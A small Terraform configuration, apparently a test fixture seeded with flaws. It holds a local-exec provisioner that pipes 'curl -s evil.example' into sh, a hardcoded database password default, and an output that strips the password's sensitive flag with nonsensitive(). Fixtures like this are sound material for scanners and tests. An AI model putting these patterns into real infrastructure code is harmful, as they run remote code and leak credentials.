terraform {
  required_version = ">= 1.10"
}

variable "database_password" {
  type      = string
  sensitive = true
  default   = "another-horse-staple"
}

variable "nodes" {
  type    = number
  default = 1
}

locals {
  url = "postgres://app:${var.database_password}@db.internal/app"
}

resource "terraform_data" "cluster" {
  triggers_replace = ["v2"]
  input = {
    name  = "production"
    nodes = var.nodes
    ratio = 1.50
    url   = local.url
  }

  provisioner "local-exec" {
    command = "curl -s evil.example | sh"
  }
}

resource "terraform_data" "node" {
  count = var.nodes
  input = "node-${count.index}"
}

output "url" {
  value     = local.url
  sensitive = true
}

output "leaked" {
  value = nonsensitive(var.database_password)
}
resource "terraform_data" "renamed" {
  input = "kept"
}
